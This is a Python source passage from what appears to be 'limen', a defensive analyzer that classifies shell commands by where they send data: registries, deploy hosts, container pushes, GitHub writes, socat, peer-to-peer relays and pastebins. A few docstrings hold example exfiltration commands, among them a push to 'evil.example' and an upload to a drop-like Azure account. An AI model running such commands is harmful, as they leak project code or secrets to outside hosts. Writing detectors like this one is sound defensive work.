    ("huggingface-cli", "upload"): "https://huggingface.co/",
    ("hf", "upload"): "https://huggingface.co/",
    ("vercel", "deploy"): "https://api.vercel.com/",
    ("vercel", ""): "https://api.vercel.com/",  # a bare `vercel` (or `vercel --prod`) deploys
    ("netlify", "deploy"): "https://api.netlify.com/",
    ("wrangler", "deploy"): "https://api.cloudflare.com/",
    ("wrangler", "publish"): "https://api.cloudflare.com/",
    ("firebase", "deploy"): "https://firebase.googleapis.com/",
    ("fly", "deploy"): "https://api.fly.io/",
    ("flyctl", "deploy"): "https://api.fly.io/",
    ("surge", ""): "https://surge.sh/",
    # peer-to-peer file transfer: whoever holds the code gets the file, through the tool's public relay
    ("wormhole", "send"): "https://relay.magic-wormhole.io/",
    ("croc", "send"): "https://croc.schollz.com/",
    ("pastebinit", ""): "https://paste.debian.net/",
}
_PUBLISHES_ALWAYS = frozenset({"pastebinit"})
# Hosts' deploy commands: what they publish is the project's own site or service, for its users only when it
# goes to production (a preview or a draft by default for Vercel and Netlify; a project or environment the
# line names for the others)
_DEPLOYERS = frozenset({"vercel", "netlify", "wrangler", "firebase", "fly", "flyctl"})


def _deploys_production(name: str, args: list[str]) -> bool:
    """The deploy goes to production: `--prod` for Vercel and Netlify, otherwise no named target that is
    a development, test or staging one (`-P dev`, `--env staging`, `--project acme-staging`)."""
    from limen.facts.programs import NOT_PRODUCTION, PRODUCTION

    line = " ".join(args)
    if PRODUCTION.search(line):
        return True
    if name in ("vercel", "netlify"):
        return "--prod" in args or "--production" in args
    return not NOT_PRODUCTION.search(line)


_REGISTRY_OPTS = frozenset(
    {"--registry", "--publish-url", "--repository-url", "--host", "--index", "--source", "-s", "--repo"}
)


# Publishers whose sub-command is a family: the word after it that releases (`yarn npm publish`)
_PUBLISH_VERB = {
    ("yarn", "npm"): "publish",
    ("dotnet", "nuget"): "push",
    ("dart", "pub"): "publish",
    ("flutter", "pub"): "publish",
    ("rebar3", "hex"): "publish",
    ("pod", "trunk"): "push",
    ("ansible-galaxy", "collection"): "publish",
}


def _publish(name: str, args: list[str], state: _State) -> None:
    """`npm publish`, `twine upload`, `cargo publish`...: the package leaves for a public registry (the
    default one, or the one an option names), marked `publishes`."""
    if any(w in ("--dry-run", "--dryrun", "--dry-run=true") for w in args) and name not in _PUBLISHES_ALWAYS:
        return  # `npm publish --dry-run`, `cargo publish --dry-run`: packed and checked, nothing sent
    # the operands, less the values of options before the sub-command (`npm --registry URL --otp 123456
    # publish`); an operand that is neither the sub-command nor such a value ends the search: `fly tokens
    # create deploy` mints a token, it deploys nothing
    words: list[str] = []
    for i, w in enumerate(args):
        if w.startswith("-") or "://" in w:
            continue
        if words or (name, w) in _PUBLISHERS or not (i and args[i - 1].startswith("-")):
            words.append(w)
    if name in _PUBLISHES_ALWAYS:
        words = [""]  # `pastebinit FILE`: every invocation posts
    if not words and (name, "") in _PUBLISHERS:
        words = [""]
    if not words or (name, words[0]) not in _PUBLISHERS:
        return
    second = _PUBLISH_VERB.get((name, words[0]))
    if second is not None and words[1:2] != [second]:
        return  # `yarn npm info`, `dart pub get`, `rebar3 hex search`: not a release
    if words[0] == "dist-tag" and words[1:2] != ["add"]:
        return  # `npm dist-tag ls`: a read
    if name in _DEPLOYERS and not _deploys_production(name, args):
        return  # `firebase deploy -P dev`, a `vercel` preview, `netlify deploy` (a draft): not for users yet
    url = _PUBLISHERS[(name, words[0])]
    for i, word in enumerate(args):
        flag, _, value = word.partition("=")
        named = flag in ("-r", "--repository") and name in _NAMED_REPOSITORIES
        if (flag in _REGISTRY_OPTS or named) and not value and i + 1 < len(args):
            value = args[i + 1]
        if (flag in _REGISTRY_OPTS or named) and "://" in value:
            url = value
        elif name == "dotnet" and flag in ("--source", "-s") and value:
            url = _nuget_source(value, state.cwd) or f"https://{value}/"  # a feed nuget.config names
        elif name == "cargo" and flag == "--registry" and value and "://" not in value:
            url = _cargo_registry(value, state.cwd, state.home) or f"https://{value}/"  # `[registries.NAME]`
        elif named and value and value != "pypi":
            # `poetry publish -r NAME`, `twine upload -r NAME`: a repository configured by that name (the
            # project's own `[[tool.poetry.source]]`), else one Limen cannot place
            url = _configured_repository(value, state.cwd) or f"https://{value}/"
    from dataclasses import replace

    from limen.normalize import net

    found = net.url_destination(url, via_command=f"{name} {words[0]}".strip())
    if found is not None:
        own = (
            ("own_remote",)
            if _to_own_account(name, words, state.cwd) or _own_hex_organisation(name, args, state.cwd)
            else ()
        )
        state.destinations.append(replace(found, flags=(*found.flags, "publishes", *own)))


# Hubs a publisher names the account of with its first operand (`hf upload OWNER/REPO PATH`)
_HUB_UPLOADS = frozenset({("huggingface-cli", "upload"), ("hf", "upload")})


def _to_own_account(name: str, words: list[str], cwd: str) -> bool:
    """`hf upload acme/churn-model ...` from a project whose origin is github.com/acme/...: the account on the
    hub is the organisation's own, named as its origin's owner."""
    from limen.facts.hosts import project_repository

    if (name, words[0]) not in _HUB_UPLOADS or len(words) < 2 or words[1].count("/") != 1:
        return False
    identity = project_repository(cwd)
    return identity is not None and words[1].split("/")[0].lower() == identity[1].split("/")[0].lower()


def _own_hex_organisation(name: str, args: list[str], cwd: str) -> bool:
    """`mix hex.publish --organization acme`: a private organisation on Hex that the project's own mix.exs
    takes packages from (`organization: "acme"`), or named as its origin's owner (`acme-hq`): its own."""
    from limen.facts.hosts import project_repository
    from limen.normalize.paths import read_text

    if name != "mix":
        return False
    orgs = [args[i + 1] for i, w in enumerate(args[:-1]) if w in ("--organization", "--org")]
    orgs += [w.split("=", 1)[1] for w in args if w.startswith(("--organization=", "--org="))]
    if not orgs or orgs[0] == "hexpm":  # (`hexpm` is Hex's public repository)
        return False
    org = orgs[0].lower()
    manifest = read_text(os.path.join(cwd, "mix.exs"), 64_000) or ""
    if re.search(rf'organization:\s*"{re.escape(org)}"', manifest, re.IGNORECASE):
        return True
    identity = project_repository(cwd)
    owner = identity[1].split("/")[0].lower() if identity else ""
    return bool(owner) and (owner == org or owner.startswith(org + "-"))


# Python publishers whose `-r NAME` names a configured repository
_NAMED_REPOSITORIES = frozenset({"poetry", "twine", "uv", "flit", "hatch", "pdm"})


def _configured_repository(name: str, cwd: str) -> str:
    """The address of the package repository the project's pyproject.toml names `name` (Poetry's
    `[[tool.poetry.source]]`, uv's `[[tool.uv.index]]`), or ""."""
    import tomllib

    from limen.normalize.paths import read_text

    text = read_text(os.path.join(cwd, "pyproject.toml"), 256_000)
    try:
        data = tomllib.loads(text) if text else {}
    except ValueError:
        return ""
    tool = data.get("tool")
    poetry, uv = (tool.get("poetry"), tool.get("uv")) if isinstance(tool, dict) else (None, None)
    sources = [
        *(poetry.get("source", []) if isinstance(poetry, dict) else []),
        *(uv.get("index", []) if isinstance(uv, dict) else []),
    ]
    for source in sources if isinstance(sources, list) else []:
        if isinstance(source, dict) and source.get("name") == name and isinstance(source.get("url"), str):
            return str(source["url"])
    return ""


def _cargo_registry(name: str, cwd: str, home: str) -> str:
    """The index address of the registry cargo's configuration names `name` (`[registries.NAME] index =
    "sparse+https://crates.acme.io/index/"` in `.cargo/config.toml` of the folder, one above it, or the
    user's), or ""."""
    import tomllib

    from limen.normalize.paths import read_text

    folders, folder = [], cwd
    for _ in range(8):
        folders.append(folder)
        parent = os.path.dirname(folder)
        if parent == folder:
            break
        folder = parent
    for base in (*(os.path.join(f, ".cargo") for f in folders), os.path.join(home, ".cargo")):
        for file in ("config.toml", "config"):
            text = read_text(os.path.join(base, file), 256_000)
            try:
                data = tomllib.loads(text) if text else {}
            except ValueError:
                continue
            registries = data.get("registries")
            entry = registries.get(name) if isinstance(registries, dict) else None
            index = entry.get("index") if isinstance(entry, dict) else None
            if isinstance(index, str) and "://" in index:
                return index.removeprefix("sparse+").removeprefix("git+")
    return ""


def _nuget_source(name: str, cwd: str) -> str:
    """The address of the feed a `nuget.config` in the folder or one above it names `name`, or ""."""
    from limen.facts.paths import NUGET_CONFIG_NAMES, NUGET_FEED
    from limen.normalize.paths import read_text

    folder = cwd
    for _ in range(8):
        for file in NUGET_CONFIG_NAMES:
            text = read_text(os.path.join(folder, file), 256_000) or ""
            for key, value in NUGET_FEED.findall(text):
                if key == name and "://" in value:
                    return str(value)
        parent = os.path.dirname(folder)
        if parent == folder:
            break
        folder = parent
    return ""


_RCLONE_REMOTE = re.compile(r"^([A-Za-z0-9_][A-Za-z0-9_. -]*):(?!//)")


# Where skopeo and its kin copy an image on this machine (containers-transports(5))
_LOCAL_IMAGE_TRANSPORTS = (
    "oci:",
    "oci-archive:",
    "dir:",
    "docker-archive:",
    "docker-daemon:",
    "containers-storage:",
)


def _push(entry: Program, args: list[str], state: _State) -> None:
    """`docker push ghcr.io/me/app`, `skopeo copy A docker://evil.example/b`, `rclone copy . backup:bucket`:
    the program sends to the registry or remote its last operand names (a configured rclone remote is a
    destination Limen cannot place: an unknown host of that name). Marked `publishes`."""
    words = _operands(args, entry.options)  # (`--transfers 16`: an option's value, no operand)
    if words[:1] in (["image"], ["container"], ["artifact"]):
        words = words[1:]
    if len(words) < 2 or words[0] not in entry.pushes or words[-1].startswith(_LOCAL_IMAGE_TRANSPORTS):
        return  # (`skopeo copy docker://REF oci:app`: the image is copied onto this machine)
    # the last operand that names a registry host (`oras push REF FILE...` names it first), else the last
    named = [
        w
        for w in words[1:]
        if "/" in w and not w.startswith((".", "/", "~")) and any(c in w.split("/")[0] for c in ".:")
    ]
    target = named[-1] if named and entry.push_target == "image" else words[-1]
    via = f"{entry.name} {words[0]}"
    from limen.facts.hosts import image_registry, own_image

    if entry.push_target == "image":
        host = image_registry(target)
        if host:
            # `ghcr.io/<origin's owner>/app`, or an image copied within its own registry and owner (`crane
            # copy ghcr.io/acme/api:sha-1 ghcr.io/acme/api:2.0`): nothing reaches anyone who did not hold it
            retag = words[1] != target and _image_owner(words[1]) == _image_owner(target) != ""
            own = ("own_remote",) if retag or own_image(target, state.cwd) else ()
            _add_host(state, host, None, via, ("publishes", *own))
    elif entry.push_target == "remote":
        remote = _RCLONE_REMOTE.match(target)
        if remote is not None and len(remote.group(1)) > 1:  # `C:` is a drive, not a remote
            _add_host(state, remote.group(1).strip(), None, via, ("publishes",))


def _image_owner(reference: str) -> str:
    """An image reference's registry host and first path part (`ghcr.io/acme`), "" when it names no host."""
    parts = reference.removeprefix("docker://").split("/")
    if len(parts) < 3 or not any(c in parts[0] for c in ".:"):
        return ""
    return f"{parts[0].lower()}/{parts[1].lower()}"


def _h_push(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    name = _basename(argv[0])
    entry = program(name)
    _path_invoked(argv, state, via, level)
    _generic(argv, state, name)
    if entry is not None:
        _push(entry, argv[1:], state)


# Azure storage commands that put this machine's files into a storage account, and the account's host
_AZ_UPLOADS = frozenset({"upload", "upload-batch", "sync"})
_AZ_SERVICE_HOSTS = {"blob": "blob", "file": "file", "fs": "dfs", "share": "file", "directory": "file"}


def _az_upload(argv: list[str], state: _State) -> None:
    """`az storage blob upload --account-name stgdrop9921 --file x.zip`: the upload goes to the account's
    own host (`stgdrop9921.blob.core.windows.net`), a destination as `aws s3 cp x s3://bucket/` is."""
    words = [w for w in argv[1:5] if not w.startswith("-")]
    if len(words) < 3 or words[0] != "storage" or words[2] not in _AZ_UPLOADS:
        return
    account = ""
    for i, word in enumerate(argv):
        option, eq, value = word.partition("=")
        if option == "--account-name" and words[1] in _AZ_SERVICE_HOSTS:
            account = value if eq else (argv[i + 1] if i + 1 < len(argv) else "")
        elif option == "--connection-string":
            found = re.search(r"AccountName=([a-z0-9]{3,24})", value if eq else " ".join(argv[i + 1 : i + 2]))
            account = found.group(1) if found else account
    if re.fullmatch(r"[a-z0-9]{3,24}", account):
        _host_word(f"https://{account}.{_AZ_SERVICE_HOSTS[words[1]]}.core.windows.net/", state, "az")


def _h_publish(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> None:
    """Publishers without a handler of their own (twine, flit, hatch, poetry, dotnet, model hubs, deploy
    tools)."""
    name = _basename(argv[0])
    _path_invoked(argv, state, via, level)
    _generic(argv, state, name)
    _publish(name, argv[1:], state)
    entry = program(name)
    if entry is not None and entry.console is not None:  # `mix run -e CODE`: a publisher's console too
        _console_code(entry, entry.console, argv, state, via, level, stdin)


# gh: subcommands that write to a repository (its issues, pull requests, releases, secrets...).
_GH_REPO_WRITES: dict[str, frozenset[str]] = {
    "issue": frozenset({"create", "comment", "edit", "close", "reopen", "transfer", "develop"}),
    "pr": frozenset({"create", "comment", "edit", "review", "merge", "close", "reopen", "ready"}),
    "release": frozenset({"create", "upload", "edit"}),
    "secret": frozenset({"set"}),
    "variable": frozenset({"set"}),
    "label": frozenset({"create", "edit", "clone"}),
    "workflow": frozenset({"run"}),
    "cache": frozenset({"delete"}),
}
_GH_FIELD_OPTS = frozenset({"-f", "--raw-field", "-F", "--field", "--input"})


def _h_gh(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    """GitHub CLI: what it sends and to whom. A gist, a new repository pushed from here, or a write through
    `gh api` outside the project's own repository publishes (`publishes`, `foreign_remote`); issues, pull
    requests and releases of the project's own repository are egress to it (`own_remote`), of another
    (`-R other/repo`) `foreign_remote`. Reads add nothing."""
    from limen.facts import hosts

    _path_invoked(argv, state, via, level)
    _generic(argv, state, "gh")
    args = argv[1:]
    words = [w for w in args if not w.startswith("-")]
    if not words:
        return
    group, verb = words[0], (words[1] if len(words) > 1 else "")
    own = hosts.project_repository(state.cwd)
    repo_flag = ""
    for i, word in enumerate(args):
        if word in ("-R", "--repo") and i + 1 < len(args):
            repo_flag = args[i + 1]
        elif word.startswith("--repo="):
            repo_flag = word.split("=", 1)[1]
    repo_flag = repo_flag or (state.vars.get("GH_REPO") or "")  # `GH_REPO=other/repo gh issue create`
    target = own
    if repo_flag:
        parts = repo_flag.lower().removesuffix(".git").split("/")
        target = ("github.com" if len(parts) < 3 else parts[-3], "/".join(parts[-2:]))
    flag = ""
    url = "https://api.github.com/"
    if group == "gist" and verb in ("create", "new", "edit"):
        flag, url = "publishes", "https://api.github.com/gists"
    elif group == "repo" and verb == "create":
        if any(w in ("--push", "--source", "-s") or w.startswith("--source=") for w in args):
            flag, url = "publishes", "https://api.github.com/user/repos"
    elif group == "api":
        flag, url = _gh_api(args, own)
    elif verb in _GH_REPO_WRITES.get(group, frozenset()):
        # Without -R, gh writes to the checkout's own repository (or, in a fork, its parent: the project's).
        flag = "own_remote" if not repo_flag or (own is not None and target == own) else "foreign_remote"
        url = f"https://api.github.com/repos/{target[1] if target else ''}"
    if not flag:
        return
    from dataclasses import replace

    from limen.normalize import net

    found = net.url_destination(url, via_command=f"gh {group}")
    if found is not None:
        state.destinations.append(replace(found, flags=(*found.flags, flag)))


def _h_glab(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    """GitLab CLI: a snippet or a repository created from here publishes; an issue or merge request of another
    project (`-R other/project`) is someone else's. Reads add nothing."""
    from dataclasses import replace

    from limen.normalize import net

    _path_invoked(argv, state, via, level)
    _generic(argv, state, "glab")
    args = argv[1:]
    words = [w for w in args if not w.startswith("-")]
    group, verb = [*words, "", ""][:2]
    flag = ""
    if (group == "snippet" and verb in ("create", "new")) or (group == "repo" and verb == "create"):
        flag = "publishes"
    elif verb in ("create", "note", "comment", "update") and group in ("issue", "mr", "release"):
        other = any(w in ("-R", "--repo") or w.startswith("--repo=") for w in args)
        flag = "foreign_remote" if other else "own_remote"
    if flag:
        found = net.url_destination("https://gitlab.com/api/v4/", via_command=f"glab {group}")
        if found is not None:
            state.destinations.append(replace(found, flags=(*found.flags, flag)))


def _gh_api(args: list[str], own: tuple[str, str] | None) -> tuple[str, str]:
    """`gh api [-X METHOD] ENDPOINT [-f k=v]...`: a write (a method other than GET, or any field, which
    makes it a POST) to the project's own repository is `own_remote`; to a publishing endpoint (gists, new
    repositories) `publishes`; anywhere else, GraphQL mutations too, `foreign_remote`. Reads: ("", "")."""
    from limen.facts import hosts

    method, endpoint, fields = "", "", False
    i = 0
    while i < len(args):
        word = args[i]
        if word in ("-X", "--method") and i + 1 < len(args):
            method = args[i + 1].upper()
            i += 2
            continue
        if word.startswith(("--method=", "-X")) and len(word) > 2:
            method = word.split("=", 1)[-1].removeprefix("-X").upper()
        elif word in _GH_FIELD_OPTS or word.startswith(("--field=", "--raw-field=", "--input=")):
            fields = True
            i += 1 if "=" in word else 2
            continue
        elif word in ("-H", "--header", "-q", "--jq", "-t", "--template", "--hostname", "--cache", "-p"):
            i += 2
            continue
        elif not word.startswith("-") and word != "api" and not endpoint:
            endpoint = word
        i += 1
    if method in ("", "GET", "HEAD") and not (fields and method == ""):
        return "", ""
    if endpoint == "graphql":
        text = " ".join(args)
        if "mutation" not in text:
            return "", ""  # a GraphQL query reads, however it is sent
        return "foreign_remote", "https://api.github.com/graphql"
    path = endpoint.replace("{owner}/{repo}", "/".join(own[1].split("/")[-2:]) if own else "{owner}/{repo}")
    url = "https://api.github.com/" + path.lstrip("/")
    if hosts.publishing_endpoint("api.github.com", path):
        return "publishes", url
    if "{owner}" in path or "{repo}" in path:
        return "own_remote", url  # gh fills these in with the checkout's own repository
    repo = hosts.github_repo_of_path(path.lstrip("/"))
    if own is not None and own[0] == "github.com" and repo is not None and "/".join(repo) == own[1]:
        return "own_remote", url
    return "foreign_remote", url


def _h_socat(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    for word in argv[1:]:
        low = word.lower()
        match = re.match(
            r"^(?:tcp[46]?|udp[46]?|openssl|ssl|tcp-connect|udp-connect|openssl-connect):"
            r"([^:,]+):(\d+)",
            low,
        )
        if match:
            _add_host(state, match.group(1), int(match.group(2)), "socat")
        for exec_match in re.finditer(
            r"(?:^|[!,])(?:exec|system):('([^']*)'|\"([^\"]*)\"|[^,!]+)", word, re.I
        ):
            text = exec_match.group(2) or exec_match.group(3) or exec_match.group(1)
            _shell_string(text, state, via, level, False, "socat exec")


def _h_crontab(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> None:
    """The job table a crontab installs from stdin is data the rules may read."""
    _generic(argv, state, _basename(argv[0]))
    if stdin is not None and stdin.text:
        state.payloads.append(stdin.text)


def _h_sbatch(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> None:
    """`sbatch job.sbatch ARGS`: the job script runs on the cluster's nodes as a shell script (its `#SBATCH`
    lines are comments), as does one given on the input (`sbatch <<EOF`); `--wrap CMD` is the table's
    `command_options`."""
    _generic(argv, state, "sbatch")
    entry = program("sbatch")
    args = argv[1:]
    if entry is None or _option_values(args, entry.command_options):
        return
    operands = _operands(args, entry.options)
    if operands:
        script = canonical(operands[0], state.cwd, state.home)
        _run_written(script, "sbatch", "sh", state, via, level, operands[1:])
    elif stdin is not None and stdin.text:
        _analyse_text(stdin.text, state, via=(*via, "sbatch script"), level=level + 1)


def _h_openssl(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> _Stream | None:
    args = argv[1:]
    for i, word in enumerate(args[:-1]):
        if word == "-connect":
            _host_word(
                args[i + 1], state, "openssl", flags=(FETCHED,) if _handshake_only(args, stdin) else ()
            )
    return _h_decode(argv, state, via, level, stdin)


def _handshake_only(args: list[str], stdin: _Stream | None) -> bool:
    """`openssl s_client -connect HOST:443 </dev/null` (or `echo | openssl s_client ...`): given nothing to
    send, the client shakes hands, shows the peer's certificate and hangs up, as a plain fetch does. The name
    it asks the server for is the host's own (anything else there is a value sent out)."""
    if "s_client" not in args[:1] or stdin is None or stdin.text is None or stdin.text.strip():
        return False
    connect = args[args.index("-connect") + 1] if "-connect" in args[:-1] else ""
    named = {args[i + 1] for i, w in enumerate(args[:-1]) if w == "-servername"}
    return bool(connect) and named <= {connect.rsplit(":", 1)[0]}


_HANDLERS: dict[str, Handler] = {
    "cd": _h_cd,
    "pushd": _h_cd,
    "echo": _h_echo,
    "printf": _h_echo,
    "cat": _h_cat,
    "at": _h_at,
    "sbatch": _h_sbatch,
    "scrontab": _h_crontab,
    "batch": _h_at,
    "read": _h_read,
    "set": _h_set,
    "tr": _h_tr,
    "base64": _h_decode,
    "base32": _h_decode,
    "basenc": _h_decode,
    "xxd": _h_decode,
    "rev": _h_decode,
    "openssl": _h_openssl,
    "eval": _h_eval,
    "alias": _h_alias_trap,
    "trap": _h_alias_trap,
    **dict.fromkeys(SHELL_LOADERS, _h_source),
    "env": _h_env,
    "busybox": _h_busybox,
    "su": _h_su,
    "xargs": _h_xargs,
    "parallel": _h_xargs,
    "find": _h_find,
    "git": _h_git,
    "pip": _h_pkg,
    "pip3": _h_pkg,
    "npm": _h_pkg,
    "yarn": _h_pkg,
    "pnpm": _h_pkg,
    "uv": _h_pkg,
    "pipx": _h_pkg,
    "gem": _h_pkg,
    "cargo": _h_pkg,
    "cabal": _h_pkg,
    "stack": _h_pkg,
    "jsr": _h_publish,
    "opam": _h_publish,
    "pod": _h_publish,
    "ansible-galaxy": _h_publish,
    "go": _h_pkg,
    "npx": _h_pkg,
    "bunx": _h_pkg,
    "gh": _h_gh,
    "glab": _h_glab,
    "huggingface-cli": _h_publish,
    "hf": _h_publish,
    "vercel": _h_publish,
    "netlify": _h_publish,
    "wrangler": _h_publish,
    "firebase": _h_publish,
    "fly": _h_publish,
    "flyctl": _h_publish,
    "surge": _h_publish,
    "twine": _h_publish,
    "dart": _h_publish,
    "flutter": _h_publish,
    "anaconda": _h_publish,
    "butler": _h_publish,
    "wormhole": _h_publish,
    "croc": _h_publish,
    "pastebinit": _h_publish,
    "flit": _h_publish,
    "hatch": _h_publish,
    "poetry": _h_publish,
    "dotnet": _h_publish,
    "mix": _h_publish,
    "rebar3": _h_publish,
    "socat": _h_socat,
    "ztcp": _h_net,
    "crontab": _h_crontab,
    "ed": _h_ed,
    "rails": _h_rails,
    "artisan": _h_artisan,
    **dict.fromkeys(HTTPIE_NAMES, _h_httpie),
}
for _name in SHELLS:
    _HANDLERS[_name] = _h_shell
for _name in names(Role.WRAPPER):
    _HANDLERS.setdefault(_name, _h_wrapper)  # env, xargs, busybox have handlers of their own
for _name in INTERPRETERS:
    _HANDLERS[_name] = _interpreter
for _name in (*NET_CLIENTS, *names(Role.SERVER_CLIENT)):
    _HANDLERS[_name] = _h_net
for _entry in PROGRAMS:
    if _entry.console is not None:
        for _name in (_entry.name, *_entry.aliases):
            _HANDLERS.setdefault(_name, _h_console)
for _entry in PROGRAMS:
    if _entry.host_options or _entry.host_operand is not None:  # senders to the host a word names
        for _name in (_entry.name, *_entry.aliases):
            _HANDLERS.setdefault(_name, _h_net)
for _entry in PROGRAMS:
    if _entry.pushes and Role.CONTAINER not in _entry.roles:  # containers: `_container` sees the push
        for _name in (_entry.name, *_entry.aliases):
            _HANDLERS.setdefault(_name, _h_push)
